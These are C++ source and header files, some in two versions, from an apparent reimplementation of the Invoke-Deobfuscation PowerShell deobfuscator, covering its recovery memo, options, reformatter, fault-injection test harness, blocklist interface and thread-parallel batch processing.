/// Obfuscation kits repeat the same building-block pieces across scripts,
/// which is exactly what a global memo converts from per-thread re-executions
/// into hits. Hit/lookup counters are relaxed atomics; `size()` takes the
/// shard locks briefly and is a racy-but-consistent snapshot.
class RecoveryMemo {
 public:
  /// The memoized literal for this piece under this context, or nullopt
  /// when the piece has not been executed yet. "" means execution failed or
  /// the result had no literal form. Returns by value: a pointer into the
  /// table would race with concurrent inserts once the lock is dropped.
  [[nodiscard]] std::optional<std::string> lookup(std::size_t context,
                                                  std::string_view piece) const;
  void store(std::size_t context, std::string_view piece, std::string literal);

  [[nodiscard]] std::size_t hits() const {
    return hits_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::size_t lookups() const {
    return lookups_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::size_t misses() const { return lookups() - hits(); }
  [[nodiscard]] std::size_t size() const;

 private:
  struct Key {
    std::size_t context;
    std::string piece;
    bool operator==(const Key&) const = default;
  };
  struct KeyHash {
    std::size_t operator()(const Key& k) const {
      return k.context ^ std::hash<std::string>{}(k.piece);
    }
  };
  static constexpr std::size_t kShardCount = 16;
  /// Growth bound for pathological scripts with unbounded distinct pieces
  /// (8192 entries total, as before sharding).
  static constexpr std::size_t kMaxEntriesPerShard = 512;

  struct Shard {
    mutable std::mutex mu;
    std::unordered_map<Key, std::string, KeyHash> map;
  };
  Shard& shard_for(std::size_t key_hash) const {
    return shards_[key_hash % kShardCount];
  }

  mutable std::array<Shard, kShardCount> shards_;
  mutable std::atomic<std::size_t> hits_{0};
  mutable std::atomic<std::size_t> lookups_{0};
};

struct RecoveryOptions {
  std::size_t max_steps_per_piece = 200000;
  std::size_t max_piece_size = 4u << 20;
  std::vector<std::string> extra_blocklist;
  /// Extension beyond the paper (its section V-C limitation): when enabled,
  /// user function definitions seen earlier in the script are loaded into
  /// the recovery interpreter, so pieces that call a decoder function (the
  /// "recovery algorithm in a function" evasion) can still be executed.
  bool trace_functions = false;
  /// Optional piece-execution memo, shared across layers and fixed-point
  /// passes of one deobfuscation run. Null executes every piece.
  RecoveryMemo* memo = nullptr;
  /// Optional execution budget for the whole pass: piece interpreters
  /// checkpoint against it, and a BudgetError (deadline / allocation /
  /// cancellation) aborts the pass instead of being absorbed as a per-piece
  /// failure. Non-owning; may be null.
  ps::Budget* budget = nullptr;
  /// Optional fault injector (sites: PieceExecution, MemoLookup). Injected
  /// FaultErrors likewise propagate out of the pass. May be null.
  FaultInjector* fault = nullptr;
  /// Language salt of the front-end running this pass, XOR-mixed into every
  /// memo context fingerprint. 0 is reserved for PowerShell (its
  /// fingerprints predate front-ends and must stay stable); other
  /// front-ends supply a distinct nonzero salt so identical piece bytes
  /// submitted under different languages never alias on a shared memo.
  std::size_t language_salt = 0;
};

/// The memo context fingerprint for *pure* pieces — pieces whose result
/// depends only on their text plus the execution limits (which gate how a
/// piece may fail, and failures are memoized). FNV-1a over the limits and
/// blocklist under a fixed pure-context salt, XOR-mixed with
/// options.language_salt. Shared by every front-end so the language-alias
/// regression test can prove both the collision (equal salts) and the fix
/// (distinct salts). Always odd — 0 is RecoveryMemo's "unset" sentinel.
[[nodiscard]] std::size_t pure_memo_context(const RecoveryOptions& options);

/// Runs one recovery pass. Returns the input unchanged when it does not
/// parse (the caller's per-step syntax check handles rollback).
std::string recovery_pass(std::string_view script, const RecoveryOptions& options,
                          RecoveryStats* stats = nullptr,
                          TraceSink* trace = nullptr);

/// Parse-once overload: runs the pass over an already-parsed handle of
/// `script` (extents must index into `script`). The parse's arena doubles
/// as the piece-bytecode cache: chunks compiled for recoverable nodes are
/// annotated onto it and live exactly as long as the tree. The output
/// syntax check goes through `cache` when provided, so the caller's
/// subsequent parse of the result is a cache hit.
std::string recovery_pass(std::string_view script,
                          const ps::ParsedScript& parsed,
                          const RecoveryOptions& options,
                          RecoveryStats* stats = nullptr,
                          TraceSink* trace = nullptr,
                          ps::ParseCache* cache = nullptr);

/// Renders a runtime value as PowerShell literal source text, or empty when
/// the value has no faithful literal form (objects, arrays, ...), matching
/// the paper's String/Number rule in section III-B2.
std::string value_to_literal(const ps::Value& value);

}  // namespace ideobf
