#pragma once

/// \file recovery.h
/// Phase 2 of Invoke-Deobfuscation (paper section III-B): recovery based on
/// AST. Identifies recoverable nodes, traces variables (Algorithm 1),
/// executes recoverable pieces through the Invoke substrate with the
/// execution blocklist, and reconstructs the script by post-order in-place
/// replacement.

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

#include "core/trace.h"
#include "psvalue/value.h"

namespace ideobf {

struct RecoveryStats {
  int pieces_recovered = 0;       ///< recoverable nodes replaced by literals
  int variables_traced = 0;       ///< assignments recorded in the symbol table
  int variables_substituted = 0;  ///< variable uses replaced by their value
};

struct RecoveryOptions {
  std::size_t max_steps_per_piece = 200000;
  std::size_t max_piece_size = 4u << 20;
  std::vector<std::string> extra_blocklist;
  /// Extension beyond the paper (its section V-C limitation): when enabled,
  /// user function definitions seen earlier in the script are loaded into
  /// the recovery interpreter, so pieces that call a decoder function (the
  /// "recovery algorithm in a function" evasion) can still be executed.
  bool trace_functions = false;
};

/// Runs one recovery pass. Returns the input unchanged when it does not
/// parse (the caller's per-step syntax check handles rollback).
std::string recovery_pass(std::string_view script, const RecoveryOptions& options,
                          RecoveryStats* stats = nullptr,
                          TraceSink* trace = nullptr);

/// Renders a runtime value as PowerShell literal source text, or empty when
/// the value has no faithful literal form (objects, arrays, ...), matching
/// the paper's String/Number rule in section III-B2.
std::string value_to_literal(const ps::Value& value);

}  // namespace ideobf
