#pragma once

/// \file reformat.h
/// Phase 3b of Invoke-Deobfuscation (paper section III-C): removes random
/// whitespace and re-indents with a standardized format, by reprinting the
/// token stream. Token adjacency from the original text is preserved where
/// PowerShell syntax depends on it (method-call and index brackets).

#include <string>
#include <string_view>

namespace ideobf {

/// Returns the reformatted script; input that fails to tokenize is returned
/// unchanged.
std::string reformat_pass(std::string_view script);

}  // namespace ideobf
