#pragma once

/// \file fault.h
/// Deterministic fault injection for the execution governor. The degradation
/// ladder and the failure taxonomy only earn their keep if they are
/// exercisable on demand, so the injector is compiled in always and enabled
/// by handing a FaultInjector pointer to ideobf::Options /
/// SandboxOptions / RecoveryOptions. A null pointer (the default) costs one
/// branch per site; an armed injector can throw, throw a non-std value,
/// delay, or corrupt text at named pipeline sites.

#include <cstddef>
#include <mutex>
#include <stdexcept>
#include <string>
#include <string_view>

namespace ideobf {

/// The named hook points threaded through the pipeline and the serve fleet.
enum class FaultSite {
  Parse,            ///< entry validity parse of a pipeline attempt
  PieceExecution,   ///< recovery sandbox-executing a recoverable piece
  MemoLookup,       ///< recovery memo consultation
  MultilayerDecode, ///< multilayer payload extraction/decoding
  SandboxRun,       ///< Sandbox::run script execution
  WorkerAbort,      ///< server worker, just before dispatching a request
  WorkerHang,       ///< server worker, inside request dispatch (Delay)
  CacheCorrupt,     ///< shared response cache, after an entry is published
};
inline constexpr std::size_t kFaultSiteCount = 8;

const char* to_string(FaultSite site);

enum class FaultAction {
  None,         ///< disarmed
  Throw,        ///< throw FaultError (a std::exception)
  ThrowNonStd,  ///< throw a non-std value (tests catch(...) fallbacks)
  Delay,        ///< sleep `delay_seconds` (tests deadlines and the watchdog)
  Corrupt,      ///< overwrite the site's text operand with `corrupt_text`
  Abort,        ///< std::abort() the process (crash-containment drills; the
                ///< fleet supervisor must treat this as a normal event)
};

/// What an injected Throw raises. Derives from std::exception so most
/// handlers see it, but the recovery engine deliberately rethrows it (like
/// BudgetError) so injected faults reach the governor instead of being
/// absorbed as per-piece failures.
class FaultError : public std::runtime_error {
 public:
  explicit FaultError(std::string message)
      : std::runtime_error(std::move(message)) {}
};

struct FaultSpec {
  FaultAction action = FaultAction::None;
  int skip_first = 0;        ///< let this many visits pass before firing
  int max_fires = -1;        ///< stop firing after this many (-1 = unlimited)
  double delay_seconds = 0;  ///< for Delay
  std::string corrupt_text;  ///< for Corrupt
  /// When non-empty, the fault only fires on visits whose text operand
  /// contains this substring (non-matching visits don't consume skip_first
  /// or max_fires). This is how a crash drill marks one "killer" script in a
  /// stream of innocent traffic: only requests carrying the marker abort the
  /// worker, so quarantine tests are deterministic.
  std::string match_text;
};

/// Thread-safe; one injector can serve a whole batch. Counters make tests
/// deterministic: `visits` counts every pass through an armed-or-not site,
/// `fires` only actual injections.
class FaultInjector {
 public:
  void arm(FaultSite site, FaultSpec spec);
  void disarm(FaultSite site);
  void reset();  ///< disarm everything and zero all counters

  [[nodiscard]] int visits(FaultSite site) const;
  [[nodiscard]] int fires(FaultSite site) const;

  /// The hook: called at each site with the site's text operand when it has
  /// one (Corrupt mutates it in place). May throw, sleep, or abort the
  /// process per the armed spec. Returns true when a fault fired.
  bool inject(FaultSite site, std::string* text = nullptr);

  /// The process-wide injector used by fleet workers: a worker process arms
  /// it from the `--fault` CLI spec at startup, and the server's hook points
  /// fire through it. Distinct from the per-run injector handed around via
  /// options — this one exists so a fork+exec'd worker can be armed without
  /// any shared memory with its supervisor.
  static FaultInjector& process();

 private:
  struct State {
    FaultSpec spec;
    int visits = 0;
    int fires = 0;
  };
  mutable std::mutex mu_;
  State sites_[kFaultSiteCount];
};

/// Parses the CLI fault grammar `SITE:ACTION[:skip=N][:fires=N][:match=STR]
/// [:delay=SECONDS][:text=STR]` (e.g. `worker-abort:abort:match=KILLME`)
/// into a (site, spec) pair. SITE names are the to_string() names; ACTION is
/// one of throw, throw-nonstd, delay, corrupt, abort. Returns false and sets
/// `error` on malformed input.
bool parse_fault_cli_spec(std::string_view spec_text, FaultSite& site,
                          FaultSpec& spec, std::string& error);

}  // namespace ideobf
