#pragma once

/// \file fault.h
/// Deterministic fault injection for the execution governor. The degradation
/// ladder and the failure taxonomy only earn their keep if they are
/// exercisable on demand, so the injector is compiled in always and enabled
/// by handing a FaultInjector pointer to DeobfuscationOptions /
/// SandboxOptions / RecoveryOptions. A null pointer (the default) costs one
/// branch per site; an armed injector can throw, throw a non-std value,
/// delay, or corrupt text at named pipeline sites.

#include <cstddef>
#include <mutex>
#include <stdexcept>
#include <string>

namespace ideobf {

/// The named hook points threaded through the pipeline.
enum class FaultSite {
  Parse,            ///< entry validity parse of a pipeline attempt
  PieceExecution,   ///< recovery sandbox-executing a recoverable piece
  MemoLookup,       ///< recovery memo consultation
  MultilayerDecode, ///< multilayer payload extraction/decoding
  SandboxRun,       ///< Sandbox::run script execution
};
inline constexpr std::size_t kFaultSiteCount = 5;

const char* to_string(FaultSite site);

enum class FaultAction {
  None,         ///< disarmed
  Throw,        ///< throw FaultError (a std::exception)
  ThrowNonStd,  ///< throw a non-std value (tests catch(...) fallbacks)
  Delay,        ///< sleep `delay_seconds` (tests deadlines and the watchdog)
  Corrupt,      ///< overwrite the site's text operand with `corrupt_text`
};

/// What an injected Throw raises. Derives from std::exception so most
/// handlers see it, but the recovery engine deliberately rethrows it (like
/// BudgetError) so injected faults reach the governor instead of being
/// absorbed as per-piece failures.
class FaultError : public std::runtime_error {
 public:
  explicit FaultError(std::string message)
      : std::runtime_error(std::move(message)) {}
};

struct FaultSpec {
  FaultAction action = FaultAction::None;
  int skip_first = 0;        ///< let this many visits pass before firing
  int max_fires = -1;        ///< stop firing after this many (-1 = unlimited)
  double delay_seconds = 0;  ///< for Delay
  std::string corrupt_text;  ///< for Corrupt
};

/// Thread-safe; one injector can serve a whole batch. Counters make tests
/// deterministic: `visits` counts every pass through an armed-or-not site,
/// `fires` only actual injections.
class FaultInjector {
 public:
  void arm(FaultSite site, FaultSpec spec);
  void disarm(FaultSite site);
  void reset();  ///< disarm everything and zero all counters

  [[nodiscard]] int visits(FaultSite site) const;
  [[nodiscard]] int fires(FaultSite site) const;

  /// The hook: called at each site with the site's text operand when it has
  /// one (Corrupt mutates it in place). May throw or sleep per the armed
  /// spec. Returns true when a fault fired.
  bool inject(FaultSite site, std::string* text = nullptr);

 private:
  struct State {
    FaultSpec spec;
    int visits = 0;
    int fires = 0;
  };
  mutable std::mutex mu_;
  State sites_[kFaultSiteCount];
};

}  // namespace ideobf
