#include "core/fault.h"

#include <chrono>
#include <thread>

#include "telemetry/metrics.h"

namespace ideobf {

namespace {

/// Per-site injected-fault counter; `site` strings are the to_string names.
telemetry::Counter& fault_injected_counter(FaultSite site) {
  auto& reg = telemetry::registry();
  switch (site) {
    case FaultSite::Parse: {
      static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"parse\"");
      return c;
    }
    case FaultSite::PieceExecution: {
      static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"piece-execution\"");
      return c;
    }
    case FaultSite::MemoLookup: {
      static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"memo-lookup\"");
      return c;
    }
    case FaultSite::MultilayerDecode: {
      static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"multilayer-decode\"");
      return c;
    }
    case FaultSite::SandboxRun:
      break;
  }
  static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"sandbox-run\"");
  return c;
}

}  // namespace

const char* to_string(FaultSite site) {
  switch (site) {
    case FaultSite::Parse: return "parse";
    case FaultSite::PieceExecution: return "piece-execution";
    case FaultSite::MemoLookup: return "memo-lookup";
    case FaultSite::MultilayerDecode: return "multilayer-decode";
    case FaultSite::SandboxRun: return "sandbox-run";
  }
  return "unknown";
}

void FaultInjector::arm(FaultSite site, FaultSpec spec) {
  std::lock_guard<std::mutex> lock(mu_);
  State& st = sites_[static_cast<std::size_t>(site)];
  st.spec = std::move(spec);
  st.visits = 0;
  st.fires = 0;
}

void FaultInjector::disarm(FaultSite site) {
  std::lock_guard<std::mutex> lock(mu_);
  sites_[static_cast<std::size_t>(site)].spec = FaultSpec{};
}

void FaultInjector::reset() {
  std::lock_guard<std::mutex> lock(mu_);
  for (State& st : sites_) st = State{};
}

int FaultInjector::visits(FaultSite site) const {
  std::lock_guard<std::mutex> lock(mu_);
  return sites_[static_cast<std::size_t>(site)].visits;
}

int FaultInjector::fires(FaultSite site) const {
  std::lock_guard<std::mutex> lock(mu_);
  return sites_[static_cast<std::size_t>(site)].fires;
}

bool FaultInjector::inject(FaultSite site, std::string* text) {
  FaultSpec armed;
  {
    std::lock_guard<std::mutex> lock(mu_);
    State& st = sites_[static_cast<std::size_t>(site)];
    st.visits++;
    if (st.spec.action == FaultAction::None) return false;
    if (st.visits <= st.spec.skip_first) return false;
    if (st.spec.max_fires >= 0 && st.fires >= st.spec.max_fires) return false;
    st.fires++;
    armed = st.spec;
  }
  fault_injected_counter(site).add();
  switch (armed.action) {
    case FaultAction::None:
      return false;
    case FaultAction::Throw:
      throw FaultError(std::string("injected fault at ") + to_string(site));
    case FaultAction::ThrowNonStd:
      throw 42;  // deliberately not a std::exception
    case FaultAction::Delay:
      std::this_thread::sleep_for(
          std::chrono::duration<double>(armed.delay_seconds));
      return true;
    case FaultAction::Corrupt:
      if (text != nullptr) *text = armed.corrupt_text;
      return true;
  }
  return false;
}

}  // namespace ideobf
