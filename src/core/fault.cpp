#include "core/fault.h"

#include <chrono>
#include <cstdlib>
#include <thread>

#include "telemetry/metrics.h"

namespace ideobf {

namespace {

/// Per-site injected-fault counter; `site` strings are the to_string names.
telemetry::Counter& fault_injected_counter(FaultSite site) {
  auto& reg = telemetry::registry();
  switch (site) {
    case FaultSite::Parse: {
      static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"parse\"");
      return c;
    }
    case FaultSite::PieceExecution: {
      static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"piece-execution\"");
      return c;
    }
    case FaultSite::MemoLookup: {
      static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"memo-lookup\"");
      return c;
    }
    case FaultSite::MultilayerDecode: {
      static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"multilayer-decode\"");
      return c;
    }
    case FaultSite::WorkerAbort: {
      static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"worker-abort\"");
      return c;
    }
    case FaultSite::WorkerHang: {
      static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"worker-hang\"");
      return c;
    }
    case FaultSite::CacheCorrupt: {
      static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"cache-corrupt\"");
      return c;
    }
    case FaultSite::SandboxRun:
      break;
  }
  static auto& c = reg.counter("ideobf_fault_injected_total", "site=\"sandbox-run\"");
  return c;
}

}  // namespace

const char* to_string(FaultSite site) {
  switch (site) {
    case FaultSite::Parse: return "parse";
    case FaultSite::PieceExecution: return "piece-execution";
    case FaultSite::MemoLookup: return "memo-lookup";
    case FaultSite::MultilayerDecode: return "multilayer-decode";
    case FaultSite::SandboxRun: return "sandbox-run";
    case FaultSite::WorkerAbort: return "worker-abort";
    case FaultSite::WorkerHang: return "worker-hang";
    case FaultSite::CacheCorrupt: return "cache-corrupt";
  }
  return "unknown";
}

void FaultInjector::arm(FaultSite site, FaultSpec spec) {
  std::lock_guard<std::mutex> lock(mu_);
  State& st = sites_[static_cast<std::size_t>(site)];
  st.spec = std::move(spec);
  st.visits = 0;
  st.fires = 0;
}

void FaultInjector::disarm(FaultSite site) {
  std::lock_guard<std::mutex> lock(mu_);
  sites_[static_cast<std::size_t>(site)].spec = FaultSpec{};
}

void FaultInjector::reset() {
  std::lock_guard<std::mutex> lock(mu_);
  for (State& st : sites_) st = State{};
}

int FaultInjector::visits(FaultSite site) const {
  std::lock_guard<std::mutex> lock(mu_);
  return sites_[static_cast<std::size_t>(site)].visits;
}

int FaultInjector::fires(FaultSite site) const {
  std::lock_guard<std::mutex> lock(mu_);
  return sites_[static_cast<std::size_t>(site)].fires;
}

bool FaultInjector::inject(FaultSite site, std::string* text) {
  FaultSpec armed;
  {
    std::lock_guard<std::mutex> lock(mu_);
    State& st = sites_[static_cast<std::size_t>(site)];
    st.visits++;
    if (st.spec.action == FaultAction::None) return false;
    // A match filter restricts the fault to marked operands; non-matching
    // visits leave skip_first/max_fires untouched so a stream of innocent
    // traffic cannot use up the armed budget.
    if (!st.spec.match_text.empty() &&
        (text == nullptr ||
         text->find(st.spec.match_text) == std::string::npos)) {
      return false;
    }
    if (st.visits <= st.spec.skip_first) return false;
    if (st.spec.max_fires >= 0 && st.fires >= st.spec.max_fires) return false;
    st.fires++;
    armed = st.spec;
  }
  fault_injected_counter(site).add();
  switch (armed.action) {
    case FaultAction::None:
      return false;
    case FaultAction::Throw:
      throw FaultError(std::string("injected fault at ") + to_string(site));
    case FaultAction::ThrowNonStd:
      throw 42;  // deliberately not a std::exception
    case FaultAction::Delay:
      std::this_thread::sleep_for(
          std::chrono::duration<double>(armed.delay_seconds));
      return true;
    case FaultAction::Corrupt:
      if (text != nullptr) *text = armed.corrupt_text;
      return true;
    case FaultAction::Abort:
      std::abort();
  }
  return false;
}

FaultInjector& FaultInjector::process() {
  static FaultInjector injector;
  return injector;
}

namespace {

bool parse_site(std::string_view name, FaultSite& site) {
  for (std::size_t i = 0; i < kFaultSiteCount; ++i) {
    const auto candidate = static_cast<FaultSite>(i);
    if (name == to_string(candidate)) {
      site = candidate;
      return true;
    }
  }
  return false;
}

bool parse_action(std::string_view name, FaultAction& action) {
  if (name == "throw") { action = FaultAction::Throw; return true; }
  if (name == "throw-nonstd") { action = FaultAction::ThrowNonStd; return true; }
  if (name == "delay") { action = FaultAction::Delay; return true; }
  if (name == "corrupt") { action = FaultAction::Corrupt; return true; }
  if (name == "abort") { action = FaultAction::Abort; return true; }
  return false;
}

}  // namespace

bool parse_fault_cli_spec(std::string_view spec_text, FaultSite& site,
                          FaultSpec& spec, std::string& error) {
  spec = FaultSpec{};
  const auto next_field = [&spec_text]() -> std::string_view {
    const std::size_t colon = spec_text.find(':');
    std::string_view field = spec_text.substr(0, colon);
    spec_text = colon == std::string_view::npos ? std::string_view{}
                                                : spec_text.substr(colon + 1);
    return field;
  };
  const std::string_view site_name = next_field();
  if (!parse_site(site_name, site)) {
    error = "unknown fault site '" + std::string(site_name) + "'";
    return false;
  }
  const std::string_view action_name = next_field();
  if (!parse_action(action_name, spec.action)) {
    error = "unknown fault action '" + std::string(action_name) + "'";
    return false;
  }
  while (!spec_text.empty()) {
    const std::string_view field = next_field();
    const std::size_t eq = field.find('=');
    if (eq == std::string_view::npos) {
      error = "malformed fault option '" + std::string(field) +
              "' (expected key=value)";
      return false;
    }
    const std::string_view key = field.substr(0, eq);
    const std::string value(field.substr(eq + 1));
    try {
      if (key == "skip") {
        spec.skip_first = std::stoi(value);
      } else if (key == "fires") {
        spec.max_fires = std::stoi(value);
      } else if (key == "delay") {
        spec.delay_seconds = std::stod(value);
      } else if (key == "match") {
        spec.match_text = value;
      } else if (key == "text") {
        spec.corrupt_text = value;
      } else {
        error = "unknown fault option '" + std::string(key) + "'";
        return false;
      }
    } catch (const std::exception&) {
      error = "bad numeric value in fault option '" + std::string(field) + "'";
      return false;
    }
  }
  return true;
}

}  // namespace ideobf
