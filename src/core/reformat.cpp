#include "core/reformat.h"

#include "pslang/lexer.h"

namespace ideobf {

using ps::Token;
using ps::TokenType;

std::string reformat_pass(std::string_view script) {
  bool ok = true;
  ps::TokenStream tokens = ps::tokenize_lenient(script, ok);
  if (!ok) return std::string(script);

  std::string out;
  int indent = 0;
  int paren_depth = 0;
  bool at_line_start = true;
  const Token* prev = nullptr;

  auto newline = [&]() {
    // Collapse trailing spaces; consecutive line breaks fold into one so the
    // reformatter is idempotent on its own output.
    while (!out.empty() && (out.back() == ' ' || out.back() == '\t')) out.pop_back();
    if (!out.empty() && out.back() != '\n') out.push_back('\n');
    at_line_start = true;
    prev = nullptr;
  };

  auto emit = [&](const Token& t, std::string_view text) {
    if (at_line_start) {
      for (int i = 0; i < indent; ++i) out += "    ";
      at_line_start = false;
    } else if (prev != nullptr) {
      // Preserve original adjacency (method parens, index brackets, member
      // dots must stay attached); otherwise normalize to one space.
      const bool was_adjacent = prev->end() == t.start;
      if (!was_adjacent) out.push_back(' ');
    }
    out += text;
    prev = &t;
  };

  for (std::size_t i = 0; i < tokens.size(); ++i) {
    const Token& t = tokens[i];
    switch (t.type) {
      case TokenType::NewLine:
        if (paren_depth == 0) newline();
        continue;
      case TokenType::LineContinuation:
        continue;  // joined onto one line
      case TokenType::StatementSeparator:
        if (paren_depth == 0) {
          newline();
        } else {
          emit(t, ";");
        }
        continue;
      case TokenType::Comment:
        emit(t, t.text);
        if (t.text.rfind("#", 0) == 0 && t.text.rfind("<#", 0) != 0) newline();
        continue;
      case TokenType::GroupStart:
        if (t.content == "{" || t.content == "@{") {
          emit(t, t.text);
          ++indent;
          newline();
        } else {
          emit(t, t.text);
          if (t.content != "{") ++paren_depth;
        }
        continue;
      case TokenType::GroupEnd:
        if (t.content == "}") {
          if (indent > 0) --indent;
          newline();
          emit(t, t.text);
          // A `}` is usually the end of a statement unless an operator,
          // member access or closing group follows.
          if (i + 1 < tokens.size()) {
            const Token& next = tokens[i + 1];
            const bool continues =
                next.type == TokenType::Operator ||
                next.type == TokenType::GroupEnd ||
                next.type == TokenType::Keyword ||
                (next.type == TokenType::GroupStart && next.content == "[");
            if (!continues) newline();
          } else {
            newline();
          }
        } else {
          if (paren_depth > 0) --paren_depth;
          emit(t, t.text);
        }
        continue;
      default:
        emit(t, t.text);
        continue;
    }
  }
  // Trim leading/trailing blank lines.
  while (!out.empty() && (out.front() == '\n' || out.front() == ' ')) {
    out.erase(out.begin());
  }
  while (!out.empty() && (out.back() == '\n' || out.back() == ' ')) out.pop_back();
  out.push_back('\n');
  return out;
}

}  // namespace ideobf
