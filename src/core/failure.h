#pragma once

/// \file failure.h
/// Maps the exceptions the pipeline can raise onto the governor's
/// structured FailureKind taxonomy (psvalue/budget.h). One mapping used by
/// the deobfuscator's degradation ladder, the batch workers, and the
/// sandbox, so an error is classified identically wherever it surfaces.

#include <string>
#include <utility>

#include "psvalue/budget.h"

namespace ideobf {

/// Classifies the exception currently being handled. Must be called from
/// inside a catch block (any kind, including catch(...)). Returns the kind
/// plus a human-readable detail message.
std::pair<ps::FailureKind, std::string> classify_current_exception();

}  // namespace ideobf
