#pragma once

/// \file blocklist.h
/// The execution blocklist of paper section III-B2: commands unrelated to
/// the recovery process (network, sleep, process control, ...) are never
/// executed while recovering pieces — this both keeps recovery safe and is
/// the reason Invoke-Deobfuscation's runtime is flat in Fig 6.

#include <functional>
#include <string>
#include <string_view>
#include <vector>

namespace ideobf {

/// True when `command_lower` must not execute during recovery.
bool is_blocklisted(std::string_view command_lower);

/// A filter suitable for InterpreterOptions::command_filter that also
/// refuses `extra` entries (lowercase).
std::function<bool(const std::string&)> make_recovery_filter(
    std::vector<std::string> extra = {});

}  // namespace ideobf
