#pragma once

/// \file batch.h
/// Thread-parallel batch deobfuscation. InvokeDeobfuscator is const-callable
/// from any number of threads (its parse cache is thread-safe and shared),
/// so a corpus (triage queues routinely see thousands of samples) shards
/// cleanly across worker threads.
///
/// Robustness model: each item runs under its own governor envelope (see
/// GovernorOptions) with a private cancellation token, and a watchdog thread
/// cancels any item still running past 2x its deadline — so one hostile
/// sample can stall neither its worker nor the batch. Worker bodies are
/// exception-sealed (including non-std throws) and the pool joins via
/// std::jthread, so an unexpected throw degrades one item instead of
/// terminating the process.

#include <string>
#include <vector>

#include "core/deobfuscator.h"

namespace ideobf {

/// Per-item outcome of a batch run.
struct BatchItem {
  bool ok = false;       ///< false when the worker caught an exception
  bool changed = false;  ///< output differs from the input script
  double seconds = 0.0;  ///< wall time spent on this item
  std::string error;     ///< what() of the caught exception when !ok
  /// Failure classification (None when the item succeeded cleanly at full
  /// strength). An item can be ok with a non-None failure: the governor
  /// degraded it to a lower rung that succeeded.
  ps::FailureKind failure = ps::FailureKind::None;
  /// Degradation-ladder rung that served the output (0 = full pipeline,
  /// 3 = passthrough).
  int degradation_rung = 0;
};

struct BatchOptions {
  /// Worker threads; 0 picks the hardware concurrency.
  unsigned threads = 0;
  /// Per-item governor envelope. Inactive (the default) runs every item
  /// ungoverned — the pre-governor behavior, byte-identical output. With a
  /// deadline set, a watchdog additionally hard-cancels items at
  /// watchdog_factor x deadline in case an item wedges between checkpoints.
  GovernorOptions governor{};
  double watchdog_factor = 2.0;
};

struct BatchReport {
  std::vector<BatchItem> items;  ///< one per input script, same order
  double wall_seconds = 0.0;     ///< end-to-end wall time of the batch

  [[nodiscard]] int failed() const;
  [[nodiscard]] int changed() const;
  /// Items with a non-None failure classification (superset of failed():
  /// includes degraded-but-served items).
  [[nodiscard]] int failures() const;
  /// Items served from a rung > 0.
  [[nodiscard]] int degraded() const;
};

/// Deobfuscates every script in `scripts`, preserving order, and records a
/// per-item ok/failed verdict plus wall times into `report`. Exceptions
/// inside a worker surface as the input returned unchanged (deobfuscation
/// is total by contract) with `ok == false` for that item.
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           BatchReport& report,
                                           const BatchOptions& options);

/// Back-compat overloads (thread count only, no governor).
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           BatchReport& report,
                                           unsigned threads = 0);

/// Report-free convenience overload; failures are silent (unchanged output).
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           unsigned threads = 0);

}  // namespace ideobf
