#pragma once

/// \file batch.h
/// Thread-parallel batch deobfuscation. InvokeDeobfuscator is const-callable
/// from any number of threads (its parse cache is thread-safe and shared),
/// so a corpus (triage queues routinely see thousands of samples) shards
/// cleanly across worker threads.
///
/// Execution model: items run on the process-lifetime work-stealing
/// ps::WorkerPool (no per-call thread spawn; per-thread arena chunk
/// freelists stay warm across batches). Each pool slot keeps a
/// RecoveryMemo shared across every script that slot serves, so a decoder
/// fragment repeated across a corpus is sandbox-executed once per slot.
///
/// Robustness model: each item runs under its own governor envelope (see
/// GovernorOptions) with a private cancellation token, and a watchdog thread
/// cancels any item still running past 2x its deadline — so one hostile
/// sample can stall neither its worker nor the batch. Worker bodies are
/// exception-sealed (including non-std throws), so an unexpected throw
/// degrades one item instead of terminating the process.

#include <string>
#include <vector>

#include "core/deobfuscator.h"

namespace ideobf {

/// Per-item outcome of a batch run.
struct BatchItem {
  bool ok = false;       ///< false when the worker caught an exception
  bool changed = false;  ///< output differs from the input script
  double seconds = 0.0;  ///< wall time spent on this item
  std::string error;     ///< what() of the caught exception when !ok
  /// Failure classification of whatever impaired this item: non-None
  /// exactly when the item failed (!ok) or was served degraded (rung > 0).
  /// A full-strength success is always None — benign per-piece recovery
  /// hiccups inside an otherwise clean run do not count as item failures —
  /// so failures() is consistent with failed() + degraded().
  ps::FailureKind failure = ps::FailureKind::None;
  /// Worst per-piece recovery failure seen while producing the served
  /// output (informative; a piece that could not be recovered is left
  /// as-is by design, so this never affects ok or failures()).
  ps::FailureKind worst_piece_failure = ps::FailureKind::None;
  /// Degradation-ladder rung that served the output (0 = full pipeline,
  /// 3 = passthrough).
  int degradation_rung = 0;
};

struct BatchOptions {
  /// Concurrent executors (pool slots); 0 picks the hardware concurrency.
  unsigned threads = 0;
  /// Per-item governor envelope. Inactive (the default) runs every item
  /// ungoverned — the pre-governor behavior, byte-identical output. With a
  /// deadline set, a watchdog additionally hard-cancels items at
  /// watchdog_factor x deadline in case an item wedges between checkpoints.
  GovernorOptions governor{};
  double watchdog_factor = 2.0;
  /// Share one RecoveryMemo per pool slot across all scripts that slot
  /// serves (memo keys fingerprint the full evaluation context, so sharing
  /// never changes output). Disabling reverts to one memo per item.
  bool share_recovery_memo = true;
};

struct BatchReport {
  std::vector<BatchItem> items;  ///< one per input script, same order
  double wall_seconds = 0.0;     ///< end-to-end wall time of the batch
  /// Phase breakdown summed over every item (self times partition the
  /// batch's total CPU-side pipeline time). All-zero unless telemetry was
  /// enabled for the run.
